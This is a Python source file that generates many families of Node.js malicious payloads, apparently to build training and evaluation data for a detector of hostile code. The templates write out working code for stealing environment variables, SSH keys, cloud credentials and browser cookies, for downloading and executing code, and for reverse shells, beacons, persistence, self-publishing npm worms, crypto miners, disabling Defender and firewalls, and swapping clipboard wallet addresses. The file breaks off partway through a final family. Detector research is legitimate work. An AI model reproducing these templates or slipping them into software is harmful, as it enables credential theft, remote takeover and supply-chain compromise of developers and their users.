"""More families of inert JavaScript payloads, each on one side of the measuring ground.

What weights were set by must not be what they are measured by: a family belongs to the setting or to
the measuring side for good.  The templates of payload_js.py belong to the setting side.  Names of
variables, modules, strings and the host come from the Payload, so hiding works as it does there.
"""

import payload_js as base

FAMILIES = {}


def family(purpose, side, env="node"):
    def add(make):
        FAMILIES.setdefault((env, purpose, side), []).append(make)
        return make
    return add


def purposes(env, side):
    """What can be drawn: purpose -> how many families."""
    found = {purpose: len(made) for (e, purpose, s), made in FAMILIES.items() if e == env and s == side}
    if side == "setting":
        for purpose in base.PAGE if env == "page" else base.NODE:
            found[purpose] = found.get(purpose, 0) + 5
    return found


def make(p, purpose, side):
    env = "page" if p.env == "browser" else "node"
    own = FAMILIES.get((env, purpose, side), [])
    old = (base.PAGE if env == "page" else base.NODE).get(purpose) if side == "setting" else None
    choices = own + [old] * max(1, len(own)) if old else own
    chosen = p.rng.choice(choices)
    p.family = "%s/%s" % (purpose, chosen.__name__)
    return chosen(p)


def digits(p, n, letters="0123456789abcdef"):
    return "".join(p.rng.choice(letters) for _ in range(n))


def wallet(p):
    """Text of the shape of an address; nobody holds it."""
    return p.pick("0x" + digits(p, 40), "1" + digits(p, 33, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"),
                  "4" + digits(p, 94, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz123456789"))


# ---- sending and fetching, measuring side ---------------------------------------------------------

def post_stream(p, x):
    p.used_api("http.request", "Readable")
    q = p.v("req")
    return "const %s = %s.request(Object.assign(new URL(%s), { method: %s }));\n%s.on('error', %s);\n%s.Readable.from([%s]).pipe(%s);" % (
        q, p.mod(p.scheme), p.url(), p.s("PUT"), q, p.swallow(), p.mod("stream"), x, q)


def post_header(p, x):
    p.used_api("fetch")
    return "fetch(%s, { headers: { %s: Buffer.from(%s).toString('base64') } }).then(() => {}, () => {});" % (
        p.url(), p.pick("'x-trace-id'", "cookie", "'x-request-context'"), x)


def post_http2(p, x):
    p.used_api("http2")
    s, q = p.v("sock"), p.v("req")
    return ("const %(s)s = %(m)s.connect(%(o)s);\n%(s)s.on('error', %(no)s);\n"
            "const %(q)s = %(s)s.request({ ':method': 'POST', ':path': %(path)s });\n"
            "%(q)s.on('close', () => %(s)s.close());\n%(q)s.end(%(x)s);") % {
        "s": s, "q": q, "m": p.mod("http2"), "o": p.h("https://" + p.origin), "path": p.s(p.path), "x": x,
        "no": p.swallow()}


def post_socket(p, x):
    p.used_api("WebSocket")
    s = p.v("sock")
    return "const %s = new WebSocket(%s);\n%s.addEventListener('open', () => { %s.send(%s); %s.close(); });" % (
        s, p.h("wss://%s%s" % (p.origin, p.path)), s, s, x, s)


def post_child(p, x):
    p.used_api("spawn")
    c = p.v("out")
    return "const %s = %s.spawn(%s, [%s, %s, %s], { stdio: ['pipe', 'ignore', 'ignore'] });\n%s.stdin.end(%s);" % (
        c, p.mod("child_process"), p.s("curl"), p.s("--data-binary"), p.s("@-"), p.url(), c, x)


def post_form(p, x):
    p.used_api("fetch", "FormData")
    f = p.v("data")
    return "const %s = new FormData();\n%s.append(%s, new Blob([%s]), %s);\nfetch(%s, { method: %s, body: %s }).catch(%s);" % (
        f, f, p.s("file"), x, p.s("log.txt"), p.url(), p.s("POST"), f, p.swallow())


def post_search(p, x):
    p.used_api("http.get")
    u = p.v("path")
    return "const %s = new URL(%s);\n%s.searchParams.set(%s, %s);\n%s.get(%s.href, (r) => r.resume()).on('error', %s);" % (
        u, p.url(), u, p.s("v"), x, p.mod(p.scheme), u, p.swallow())


def post(p, x):
    return p.rng.choice([post_stream, post_header, post_http2, post_socket, post_child, post_form, post_search])(p, x)


@family("download-run", "measuring")
def required_from_disk(p):
    p.used_api("createWriteStream", "require")
    f, r = p.v("path"), p.v("res")
    load = "%s.createRequire(%s)(%s);" % (p.mod("module"), f, f)
    return "const %s = %s.join(%s.tmpdir(), %s);\n%s.get(%s, %s);" % (
        f, p.mod("path"), p.mod("os"), p.s(p.pick("index.cjs", "plugin.js", "chunk.node")), p.mod(p.scheme), p.url(),
        p.fn([r], "%s.pipe(%s.createWriteStream(%s)).once('finish', () => {\n  %s\n});" % (r, p.mod("fs"), f, load)))


@family("download-run", "measuring")
def binary_by_fetch(p):
    p.used_api("fetch", "execFile")
    p.is_async = True
    f, r = p.v("path"), p.v("res")
    return ("const %(f)s = %(path)s.join(%(os)s.tmpdir(), %(n)s);\nconst %(r)s = await fetch(%(u)s);\n"
            "await %(fs)s.promises.writeFile(%(f)s, Buffer.from(await %(r)s.arrayBuffer()), { mode: 0o755 });\n"
            "%(cp)s.execFile(%(f)s);") % {
        "f": f, "r": r, "path": p.mod("path"), "os": p.mod("os"), "n": p.s(p.pick("helper", "svc-host", "agent.exe")),
        "u": p.url(), "fs": p.mod("fs"), "cp": p.mod("child_process")}


@family("download-run", "measuring")
def compiled_from_chunks(p):
    p.used_api("https.get", "vm.compileFunction")
    p.is_async = True
    r, t, c = p.v("res"), p.v("data"), p.v("item")
    return ("const %(r)s = await new Promise((ok, no) => %(m)s.get(%(u)s, ok).on('error', no));\nlet %(t)s = '';\n"
            "for await (const %(c)s of %(r)s) %(t)s += %(c)s;\n%(run)s") % {
        "r": r, "m": p.mod(p.scheme), "u": p.url(), "t": t, "c": c,
        "run": p.pick("%s.compileFunction(%s)();", "new %s.Script(%s).runInNewContext({ process });") % (p.mod("vm"), t)}


@family("download-run", "measuring")
def package_by_client(p):
    p.used_api("exec")
    return "%s.exec(%s + %s + %s, { windowsHide: true }, %s);" % (
        p.mod("child_process"), p.s("npm install --no-save --silent "), p.h(p.url_text.rstrip("/") + ".tgz"),
        p.s(p.pick(" && npx -y helper-cli", " && node -e \"require('helper-cli')\"")), p.swallow())


@family("download-run", "measuring")
def windows_tool(p):
    p.used_api("execFileSync", "spawn")
    f = p.v("path")
    args = p.rng.choice([("certutil", "-urlcache", "-f"), ("bitsadmin", "/transfer", "n"), ("curl.exe", "-so", None)])
    get = "[%s, %s, %s, %s]" % (p.s(args[1]), p.s(args[2]), p.url(), f) if args[2] else "[%s, %s, %s]" % (p.s(args[1]), f, p.url())
    return "const %s = process.env.TEMP + %s;\n%s.execFileSync(%s, %s);\n%s.spawn(%s, { detached: true });" % (
        f, p.s("\\\\upd.exe"), p.mod("child_process"), p.s(args[0]), get, p.mod("child_process"), f)


@family("download-run", "measuring")
def over_http2(p):
    p.used_api("http2", "new Function")
    s, q, t, c = p.v("sock"), p.v("req"), p.v("data"), p.v("item")
    return ("const %(s)s = %(m)s.connect(%(o)s);\nconst %(q)s = %(s)s.request({ ':path': %(path)s });\nlet %(t)s = '';\n"
            "%(q)s.setEncoding('utf8').on('data', (%(c)s) => { %(t)s += %(c)s; }).on('end', () => { %(run)s });") % {
        "s": s, "q": q, "t": t, "c": c, "m": p.mod("http2"), "o": p.h("https://" + p.origin), "path": p.s(p.path),
        "run": p.pick("Reflect.construct(Function, [%s])();", "[].constructor.constructor(%s)();", "Reflect.apply(Function, null, [%s])();") % t}


@family("download-run", "measuring")
def into_stdin(p):
    p.used_api("spawn", "https.get")
    c, r = p.v("out"), p.v("res")
    return "const %s = %s.spawn(%s, ['-'], { stdio: ['pipe', 'ignore', 'ignore'], detached: true });\n%s.get(%s, (%s) => %s.pipe(%s.stdin));" % (
        c, p.mod("child_process"), p.pick("process.execPath", p.s("python3"), p.s("sh")), p.mod(p.scheme), p.url(), r, r, c)


@family("download-run", "measuring")
def other_interpreter(p):
    p.used_api("execFile")
    code = p.pick("import urllib.request as u;exec(u.urlopen('%s').read())", "require 'open-uri';eval(URI.open('%s').read)") % p.url_text
    return "%s.execFile(%s, [%s, %s], %s);" % (
        p.mod("child_process"), p.s("python3" if "urllib" in code else "ruby"), p.s("-c" if "urllib" in code else "-e"),
        p.h(code), p.swallow())


@family("download-run", "setting")
def readable_chunks(p):
    p.used_api("http.get", "new Function")
    r, t, c = p.v("res"), p.v("data"), p.v("item")
    body = ("const %(t)s = [];\n%(r)s.on('readable', () => {\n  for (let %(c)s; (%(c)s = %(r)s.read()) !== null;) %(t)s.push(%(c)s);\n});\n"
            "%(r)s.on('close', () => new Function(String(Buffer.concat(%(t)s)))());") % {"t": t, "r": r, "c": c}
    return "%s.get(%s, %s);" % (p.mod(p.scheme), p.url(), p.fn([r], body))


@family("download-run", "setting")
def written_then_spawned(p):
    p.used_api("fetch", "spawnSync")
    p.is_async = True
    t, f = p.v("data"), p.v("path")
    return ("const %(t)s = await (await fetch(%(u)s)).text();\nconst %(f)s = %(os)s.tmpdir() + %(n)s;\n"
            "%(fs)s.writeFileSync(%(f)s, %(t)s);\n%(cp)s.spawnSync(%(sh)s, [%(f)s]);") % {
        "t": t, "f": f, "u": p.url(), "os": p.mod("os"), "n": p.s("/setup.sh"), "fs": p.mod("fs"),
        "cp": p.mod("child_process"), "sh": p.s("bash")}


# ---- environment, files ---------------------------------------------------------------------------

@family("exfil-environment", "measuring")
def inspected(p):
    p.used_api("process.env")
    return post(p, "%s.inspect(process.env, { maxArrayLength: null })" % p.mod("util"))


@family("exfil-environment", "measuring")
def printed_by_child(p):
    p.used_api("execSync")
    return post(p, "%s.execSync(process.platform === 'win32' ? %s : %s).toString()" % (p.mod("child_process"), p.s("set"), p.s("env")))


@family("exfil-environment", "measuring")
def from_proc(p):
    p.used_api("readFile")
    return post(p, "%s.readFileSync(%s, 'latin1')" % (p.mod("fs"), p.s("/proc/self/environ")))


@family("exfil-environment", "measuring")
def reduced(p):
    p.used_api("process.env")
    o, k, a = p.v("out"), p.v("item"), p.v("list")
    return "const %s = Object.keys({ ...process.env }).reduce((%s, %s) => (%s.push([%s, process.env[%s]]), %s), []);\n%s" % (
        o, a, k, a, k, k, a, post(p, "JSON.stringify(%s)" % o))


@family("exfil-environment", "measuring")
def chosen_names(p):
    p.used_api("process.env")
    o, k = p.v("out"), p.v("item")
    names = p.rng.sample(["NPM_TOKEN", "GITHUB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN",
                          "DOCKER_PASSWORD", "VAULT_TOKEN", "SLACK_TOKEN", "DATABASE_URL"], 4)
    return "const %s = [%s].map((%s) => %s + '=' + process.env[%s]).join('\\n');\n%s" % (
        o, ", ".join(p.s(n) for n in names), k, k, k, post(p, o))


@family("exfil-environment", "setting")
def one_at_a_time(p):
    p.used_api("process.env")
    k = p.v("item")
    return "for (const %s in process.env) {\n%s\n}" % (k, base.indent(base.send_fetch(p, "%s + '=' + process.env[%s]" % (k, k))))


@family("exfil-files", "measuring")
def walked(p):
    p.used_api("readdir", "readFile")
    w, d, e, o, f = p.v("fn"), p.v("path"), p.v("item"), p.v("out"), p.v("list")
    return ("const %(o)s = [];\nconst %(w)s = (%(d)s) => {\n  for (const %(e)s of %(fs)s.readdirSync(%(d)s, { withFileTypes: true })) {\n"
            "    const %(f)s = %(d)s + '/' + %(e)s.name;\n    if (%(e)s.isDirectory()) %(w)s(%(f)s);\n"
            "    else if (/\\.(pem|key|env|kdbx|p12)$/.test(%(e)s.name)) %(o)s.push(%(fs)s.readFileSync(%(f)s, 'base64'));\n  }\n};\n"
            "%(w)s(%(home)s);\n%(send)s") % {
        "o": o, "w": w, "d": d, "e": e, "f": f, "fs": p.mod("fs"), "home": p.pick("%s.homedir()" % p.mod("os"), "process.cwd()"),
        "send": post(p, "%s.join()" % o)}


@family("exfil-files", "measuring")
def piped_file(p):
    p.used_api("createReadStream", "http.request")
    q = p.v("req")
    return "const %s = %s.request(%s, { method: %s });\n%s.on('error', %s);\n%s.createReadStream(%s + %s).on('error', %s).pipe(%s);" % (
        q, p.mod(p.scheme), p.url(), p.s("POST"), q, p.swallow(), p.mod("fs"), p.pick("process.env.HOME", "%s.homedir()" % p.mod("os")),
        p.s("/" + p.rng.choice([".ssh/id_ed25519", ".config/gcloud/credentials.db", ".azure/accessTokens.json", ".pypirc", ".vault-token"])),
        p.swallow(), q)


@family("exfil-files", "measuring")
def archived(p):
    p.used_api("execSync")
    d = p.v("data")
    return "const %s = %s.execSync(%s, { maxBuffer: 1e8 });\n%s" % (
        d, p.mod("child_process"), p.s("tar czf - -C $HOME %s" % p.rng.choice([".ssh", ".gnupg", ".aws .kube", "Documents"])), post(p, d))


@family("exfil-files", "setting")
def dotenv_upwards(p):
    p.used_api("readFile")
    d, o = p.v("path"), p.v("out")
    return ("let %(d)s = process.cwd(), %(o)s = '';\nwhile (%(d)s.length > 1) {\n  try { %(o)s += %(fs)s.readFileSync(%(d)s + %(n)s); } catch {}\n"
            "  %(d)s = %(path)s.dirname(%(d)s);\n}\n%(send)s") % {
        "d": d, "o": o, "fs": p.mod("fs"), "n": p.s("/.env"), "path": p.mod("path"), "send": base.send(p, o)}


@family("credential-store", "measuring")
def wallet_extensions(p):
    p.used_api("readdir", "readFile")
    d, f = p.v("path"), p.v("item")
    return "const %s = %s.homedir() + %s;\nfor (const %s of %s.readdirSync(%s)) {\n%s\n}" % (
        d, p.mod("os"), p.s("/.config/google-chrome/Default/Local Extension Settings/%s/" % digits(p, 32, "abcdefghijklmnop")),
        f, p.mod("fs"), d, base.indent(post(p, "%s.readFileSync(%s + %s)" % (p.mod("fs"), d, f))))


@family("credential-store", "measuring")
def desktop_keyring(p):
    p.used_api("exec")
    e, o = p.v("err"), p.v("out")
    return "%s.exec(%s, (%s, %s) => {\n%s\n});" % (
        p.mod("child_process"), p.s(p.rng.choice(["secret-tool search --all --unlock service login", "cmdkey /list", "git credential fill <<< protocol=https",
                                                   "docker-credential-desktop list"])), e, o, base.indent(post(p, o)))


@family("credential-store", "measuring")
def cookies_copied(p):
    p.used_api("copyFile", "readFile")
    t = p.v("path")
    return "const %s = %s.tmpdir() + '/c.db';\n%s.copyFileSync(%s.join(%s.homedir(), %s), %s);\n%s" % (
        t, p.mod("os"), p.mod("fs"), p.mod("path"), p.mod("os"),
        p.s(p.rng.choice(["Library/Application Support/BraveSoftware/Brave-Browser/Default/Cookies", ".mozilla/firefox/default/logins.json",
                          "AppData/Local/Microsoft/Edge/User Data/Default/Login Data"])), t, post(p, "%s.readFileSync(%s)" % (p.mod("fs"), t)))


@family("credential-store", "setting")
def keychain(p):
    p.used_api("execSync")
    o = p.v("out")
    return "const %s = %s.execSync(%s).toString();\n%s" % (
        o, p.mod("child_process"), p.s(p.rng.choice(["security find-generic-password -wa login", "security dump-keychain -d login.keychain"])), base.send(p, o))


@family("credential-store", "setting")
def browser_store(p):
    p.used_api("readFile")
    o = p.v("out")
    return "const %s = %s.readFileSync(%s.join(%s.homedir(), %s), 'base64');\n%s" % (
        o, p.mod("fs"), p.mod("path"), p.mod("os"), p.s(p.rng.choice(base.PROFILES)), base.send(p, o))


# ---- ways out that look ordinary ------------------------------------------------------------------

def loot(p):
    return p.rng.choice(["JSON.stringify(process.env)", "JSON.stringify({ u: %s.userInfo(), e: process.env })" % p.mod("os"),
                         "%s.readFileSync(%s.homedir() + %s, 'utf8')" % (p.mod("fs"), p.mod("os"), p.s("/.npmrc"))])


@family("exfil-webhook", "measuring")
def chat_bot(p):
    p.used_api("http.get")
    return "%s.get(%s + encodeURIComponent(%s)).on('error', %s);" % (
        p.mod("https"), p.h("https://%s/bot%s:%s/sendMessage?chat_id=%s&text=" % (p.host, digits(p, 9, "0123456789"), digits(p, 30), digits(p, 8, "123456789"))),
        loot(p), p.swallow())


@family("exfil-webhook", "measuring")
def chat_attachment(p):
    p.used_api("fetch", "FormData")
    f = p.v("data")
    return "const %s = new FormData();\n%s.append('payload_json', JSON.stringify({ username: %s }));\n%s.append('files[0]', new Blob([%s]), %s);\nfetch(%s, { method: %s, body: %s }).catch(%s);" % (
        f, f, p.s("build"), f, loot(p), p.s("log.txt"), p.h("https://%s/api/webhooks/%s/%s" % (p.host, digits(p, 18, "123456789"), digits(p, 60))),
        p.s("POST"), f, p.swallow())


@family("exfil-webhook", "setting")
def chat_message(p):
    p.used_api("fetch")
    return "fetch(%s, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ %s: %s }) }).catch(%s);" % (
        p.h("https://%s/api/webhooks/%s/%s" % (p.host, digits(p, 18, "123456789"), digits(p, 60))), p.pick("content", "text"), loot(p), p.swallow())


@family("exfil-dns", "measuring")
def own_resolver(p):
    p.used_api("dns.Resolver")
    r, d, i = p.v("sock"), p.v("data"), p.v("item")
    return ("const %(r)s = new %(dns)s.Resolver();\nconst %(d)s = Buffer.from(%(x)s).toString('hex').match(/.{1,50}/g);\n"
            "%(d)s.forEach((%(c)s, %(i)s) => %(r)s.resolve4([%(c)s, %(i)s, %(h)s].join('.'), %(no)s));") % {
        "r": r, "d": d, "i": i, "c": p.v("path"), "dns": p.mod("dns"), "x": loot(p), "h": p.h(p.host), "no": p.swallow()}


@family("exfil-dns", "measuring")
def by_nslookup(p):
    p.used_api("exec")
    c = p.v("item")
    return "for (const %s of Buffer.from(%s).toString('hex').match(/.{1,60}/g)) %s.exec(`%s ${%s}.${%s}`);" % (
        c, loot(p), p.mod("child_process"), p.pick("nslookup", "dig +short", "host", "ping -c 1"), c, p.h(p.host))


@family("exfil-dns", "setting")
def promised_lookups(p):
    p.used_api("dns.promises")
    c = p.v("item")
    return "Buffer.from(%s).toString('hex').match(/.{1,48}/g).map((%s) => %s.promises.resolveTxt(%s + '.' + %s).catch(%s));" % (
        loot(p), c, p.mod("dns"), c, p.h(p.host), p.swallow())


# ---- control --------------------------------------------------------------------------------------

@family("reverse-shell", "measuring")
def shared_descriptors(p):
    p.used_api("net.connect", "spawn")
    s = p.v("sock")
    return "const %s = %s.connect(%d, %s, () => %s.spawn(%s, ['-i'], { stdio: [%s, %s, %s] }));\n%s.on('error', %s);" % (
        s, p.mod("net"), p.pick(4445, 8443, 53, 1338), p.h(p.host), p.mod("child_process"), p.s(p.pick("/bin/sh", "/bin/bash")), s, s, s, s, p.swallow())


@family("reverse-shell", "measuring")
def over_websocket(p):
    p.used_api("WebSocket", "exec")
    s, m, e, o = p.v("sock"), p.v("res"), p.v("err"), p.v("out")
    return "const %s = new WebSocket(%s);\n%s.onmessage = (%s) => %s.exec(String(%s.data), (%s, %s) => %s.send(%s || String(%s)));" % (
        s, p.h("wss://%s%s" % (p.origin, p.path)), s, m, p.mod("child_process"), m, e, o, s, o, e)


@family("reverse-shell", "measuring")
def polled_commands(p):
    p.used_api("fetch", "execSync")
    c = p.v("data")
    return ("setInterval(async () => {\n  const %(c)s = await (await fetch(%(u)s)).text();\n"
            "  if (%(c)s) await fetch(%(u2)s, { method: 'POST', body: %(cp)s.execSync(%(c)s) });\n}, %(ms)d);") % {
        "c": c, "u": p.url(), "u2": p.url(), "cp": p.mod("child_process"), "ms": p.pick(5000, 30000, 60000)}


@family("reverse-shell", "measuring")
def one_liner(p):
    p.used_api("exec")
    code = p.pick("python3 -c 'import socket,os,pty;s=socket.create_connection((\"%s\",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
                  "rm -f /tmp/p;mkfifo /tmp/p;cat /tmp/p|sh -i 2>&1|nc %s %d >/tmp/p",
                  "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('%s',%d);$s=$c.GetStream();iex (New-Object IO.StreamReader($s)).ReadLine()\"")
    return "%s.exec(%s, %s);" % (p.mod("child_process"), p.h(code % (p.host, p.pick(4445, 8443, 1338))), p.swallow())


@family("reverse-shell", "setting")
def shell_over_pipeline(p):
    p.used_api("net.connect", "spawn", "pipeline")
    s, c = p.v("sock"), p.v("out")
    return "const %s = %s.spawn(%s), %s = %s.createConnection(%d, %s);\n%s.pipeline(%s, %s.stdin, %s);\n%s.pipeline(%s.stdout, %s, %s);" % (
        c, p.mod("child_process"), p.s("sh"), s, p.mod("net"), p.pick(4444, 9001), p.h(p.host),
        p.mod("stream"), s, c, p.swallow(), p.mod("stream"), c, s, p.swallow())


@family("beacon", "measuring")
def rescheduled(p):
    p.used_api("https.get", "exec")
    f, r, b = p.v("fn"), p.v("res"), p.v("data")
    return ("const %(f)s = () => {\n  %(m)s.get(%(u)s + '?h=' + %(os)s.hostname(), (%(r)s) => {\n    %(r)s.on('data', (%(b)s) => {\n"
            "      const j = JSON.parse(%(b)s);\n      if (j.c) %(cp)s.exec(j.c);\n    });\n  }).on('error', %(no)s);\n  setTimeout(%(f)s, %(ms)d);\n};\n%(f)s();") % {
        "f": f, "r": r, "b": b, "m": p.mod(p.scheme), "u": p.url(), "os": p.mod("os"), "cp": p.mod("child_process"), "no": p.swallow(),
        "ms": p.pick(3600000, 900000, 86400000)}


@family("beacon", "measuring")
def datagrams(p):
    p.used_api("dgram")
    s = p.v("sock")
    return ("const %(s)s = %(m)s.createSocket('udp4');\n%(s)s.on('message', (b) => %(run)s);\n"
            "setInterval(() => %(s)s.send(%(x)s, %(port)d, %(h)s), %(ms)d).unref();") % {
        "s": s, "m": p.mod("dgram"), "run": p.pick("eval(b.toString())", "%s.exec(String(b))" % p.mod("child_process")),
        "x": p.pick("[%s.hostname(), %s.userInfo().username].join()" % (p.mod("os"), p.mod("os")), "JSON.stringify(%s.networkInterfaces())" % p.mod("os")),
        "port": p.pick(53, 123, 5353), "h": p.h(p.host), "ms": p.pick(60000, 600000)}


@family("beacon", "setting")
def regular_report(p):
    p.used_api("fetch")
    return "setInterval(() => fetch(%s + '?id=' + %s).then((r) => r.json()).then((j) => j.run && %s.exec(j.run)).catch(%s), %d);" % (
        p.url(), p.pick("%s.hostname()" % p.mod("os"), "%s.userInfo().username" % p.mod("os")), p.mod("child_process"), p.swallow(), p.pick(60000, 3600000))


# ---- staying, spreading, using --------------------------------------------------------------------

@family("persistence", "measuring")
def launch_agent(p):
    p.used_api("writeFile", "launchd")
    f = p.v("path")
    return "const %s = %s.homedir() + %s;\n%s.writeFileSync(%s, %s + %s + %s);\n%s.exec(%s + %s);" % (
        f, p.mod("os"), p.s("/Library/LaunchAgents/com.%s.agent.plist" % p.rng.choice(["sync", "update", "helper"])), p.mod("fs"), f,
        p.s("<plist version=\"1.0\"><dict><key>Label</key><string>a</string><key>RunAtLoad</key><true/><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl -s "),
        p.url(), p.s("|sh</string></array></dict></plist>"), p.mod("child_process"), p.s("launchctl load "), f)


@family("persistence", "measuring")
def scheduled_task(p):
    p.used_api("exec", "schtasks")
    return "%s.exec(%s + %s + %s);" % (
        p.mod("child_process"), p.s("schtasks /create /f /sc minute /mo %d /tn Sync /tr \"mshta " % p.pick(5, 30)), p.url(), p.s("\""))


@family("persistence", "measuring")
def desktop_autostart(p):
    p.used_api("writeFile", "autostart")
    return "%s.writeFileSync(%s.join(%s.homedir(), %s), %s + %s + %s);" % (
        p.mod("fs"), p.mod("path"), p.mod("os"), p.s(".config/autostart/%s.desktop" % p.rng.choice(["gnome-sync", "kde-helper"])),
        p.s("[Desktop Entry]\nType=Application\nName=Sync\nExec=sh -c \"curl -s "), p.url(), p.s(" | sh\"\n"))


@family("persistence", "measuring")
def key_added(p):
    p.used_api("appendFile", "authorized_keys")
    return "%s.appendFileSync(%s.homedir() + %s, %s);" % (
        p.mod("fs"), p.mod("os"), p.s("/.ssh/authorized_keys"),
        p.h("\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s ops@%s\n" % (digits(p, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), p.host)))


@family("persistence", "setting")
def systemd_timer(p):
    p.used_api("writeFile", "systemd")
    return "%s.writeFileSync(%s, %s + %s + %s);\n%s.execSync(%s);" % (
        p.mod("fs"), p.s("/etc/systemd/system/apt-sync.service"), p.s("[Service]\nExecStart=/bin/sh -c 'wget -qO- "), p.url(), p.s(" | sh'\n"),
        p.mod("child_process"), p.s("systemctl enable --now apt-sync"))


@family("publish-self", "measuring")
def token_upload(p):
    p.used_api("readFile", "http.request")
    t, q = p.v("data"), p.v("req")
    return ("const %(t)s = %(fs)s.readFileSync(%(os)s.homedir() + %(n)s, 'utf8').match(/_authToken=(.+)/)[1];\n"
            "const %(q)s = %(m)s.request({ hostname: %(h)s, path: %(path)s, method: 'PUT', headers: { authorization: 'Bearer ' + %(t)s } });\n"
            "%(q)s.end(%(fs)s.readFileSync(%(f)s));") % {
        "t": t, "q": q, "fs": p.mod("fs"), "os": p.mod("os"), "n": p.s("/.npmrc"), "m": p.mod("https"), "h": p.h(p.host), "path": p.s(p.path),
        "f": p.s("package.tgz")}


@family("publish-self", "measuring")
def workflow_pushed(p):
    p.used_api("writeFile", "exec")
    return "%s.mkdirSync(%s, { recursive: true });\n%s.writeFileSync(%s, %s + %s + %s);\n%s.execSync(%s);" % (
        p.mod("fs"), p.s(".github/workflows"), p.mod("fs"), p.s(".github/workflows/%s.yml" % p.rng.choice(["lint-check", "format", "stale"])),
        p.s("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' "), p.url(), p.s("\n"),
        p.mod("child_process"), p.s("git add -A && git commit -qm ci && git push -q"))


@family("publish-self", "measuring")
def published_by_child(p):
    p.used_api("spawnSync")
    d, j = p.v("path"), p.v("data")
    return ("for (const %(d)s of %(fs)s.readdirSync('..')) {\n  const %(j)s = JSON.parse(%(fs)s.readFileSync('../' + %(d)s + '/package.json', 'utf8'));\n"
            "  %(j)s.scripts = { ...%(j)s.scripts, postinstall: %(cmd)s + %(u)s + %(sh)s };\n"
            "  %(fs)s.writeFileSync('../' + %(d)s + '/package.json', JSON.stringify(%(j)s));\n"
            "  %(cp)s.spawnSync(%(npm)s, [%(pub)s], { cwd: '../' + %(d)s });\n}") % {
        "d": d, "j": j, "fs": p.mod("fs"), "cmd": p.s("curl -s "), "u": p.url(), "sh": p.s(" | sh"), "cp": p.mod("child_process"),
        "npm": p.s("npm"), "pub": p.s("publish")}


@family("publish-self", "setting")
def republished(p):
    p.used_api("exec")
    j = p.v("data")
    return ("const %(j)s = JSON.parse(%(fs)s.readFileSync('package.json', 'utf8'));\n%(j)s.scripts = { preinstall: %(a)s + %(u)s };\n"
            "%(fs)s.writeFileSync('package.json', JSON.stringify(%(j)s, null, 2));\n%(cp)s.exec(%(c)s);") % {
        "j": j, "fs": p.mod("fs"), "a": p.s("node -e \"fetch\" "), "u": p.url(), "cp": p.mod("child_process"),
        "c": p.s("npm version patch && npm publish --access public")}


@family("miner", "measuring")
def pool_config(p):
    p.used_api("writeFile", "spawn")
    f = p.v("path")
    return ("const %(f)s = %(os)s.tmpdir() + '/config.json';\n%(fs)s.writeFileSync(%(f)s, JSON.stringify({ pools: [{ url: %(h)s, user: %(w)s, algo: %(a)s }] }));\n"
            "%(cp)s.spawn(%(bin)s, [%(c)s, %(f)s], { detached: true, stdio: 'ignore' }).unref();") % {
        "f": f, "os": p.mod("os"), "fs": p.mod("fs"), "h": p.h("%s:%d" % (p.host, p.pick(3333, 5555, 14444))), "w": p.s(wallet(p)), "a": p.s("rx/0"),
        "cp": p.mod("child_process"), "bin": p.s("./bin/kworker"), "c": p.s("-c")}


@family("miner", "measuring")
def idle_miner(p):
    p.used_api("exec")
    return "if (%s.loadavg()[0] < 1) {\n  %s.exec(%s + %s + %s);\n}" % (
        p.mod("os"), p.mod("child_process"), p.s("nice -n 19 /tmp/.x/svc -a rx/0 --cpu-max-threads-hint=50 -o "),
        p.h("%s:%d" % (p.host, p.pick(3333, 5555))), p.s(" -u %s -p x -B" % wallet(p)))


@family("miner", "setting")
def pool_arguments(p):
    p.used_api("spawn")
    return "%s.spawn(%s, ['-o', %s, '-u', %s, '--donate-level', '0'], { detached: true, stdio: 'ignore' }).unref();" % (
        p.mod("child_process"), p.s(p.pick("/tmp/.cache/xm", "./xmrig", "./kdevtmp")),
        p.h("stratum+tcp://%s:%d" % (p.host, p.pick(3333, 4444))), p.s(wallet(p)))


@family("permissions", "measuring")
def tls_off(p):
    p.used_api("tls")
    return p.pick("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';", "%s.globalAgent.options.rejectUnauthorized = false;" % p.mod("https"),
                  "%s.checkServerIdentity = () => undefined;" % p.mod("tls"))


@family("permissions", "measuring")
def defender_off(p):
    p.used_api("exec")
    return "%s.exec(%s, %s);" % (p.mod("child_process"), p.s(p.rng.choice([
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "powershell Add-MpPreference -ExclusionPath C:\\",
        "netsh advfirewall set allprofiles state off", "setenforce 0; iptables -F"])), p.swallow())


@family("permissions", "measuring")
def sudo_rule(p):
    p.used_api("writeFile")
    return "%s.writeFileSync(%s, %s + %s.userInfo().username + %s, { mode: 0o440 });" % (
        p.mod("fs"), p.s("/etc/sudoers.d/%s" % p.rng.choice(["90-cloud", "10-sync"])), p.s(""), p.mod("os"), p.s(" ALL=(ALL) NOPASSWD: ALL\n"))


@family("permissions", "setting")
def world_writable(p):
    p.used_api("exec")
    return "%s.execSync(%s);" % (p.mod("child_process"), p.s(p.rng.choice([
        "chmod -R 777 /etc/ssl /usr/local/bin", "chmod u+s /bin/bash", "usermod -aG sudo nobody", "ufw disable"])))


@family("wallet-swap", "measuring")
def clipboard_child(p):
    p.used_api("execSync")
    c = p.v("data")
    return ("setInterval(() => {\n  const %(c)s = %(cp)s.execSync(%(get)s).toString();\n"
            "  if (/^(0x[0-9a-f]{40}|[13][1-9a-z]{25,34})$/i.test(%(c)s)) %(cp)s.execSync(%(put)s + %(w)s + %(to)s);\n}, %(ms)d);") % {
        "c": c, "cp": p.mod("child_process"), "get": p.s("pbpaste"), "put": p.s("printf "), "w": p.s(wallet(p)), "to": p.s(" | pbcopy"), "ms": p.pick(500, 1000)}


@family("wallet-swap", "setting")
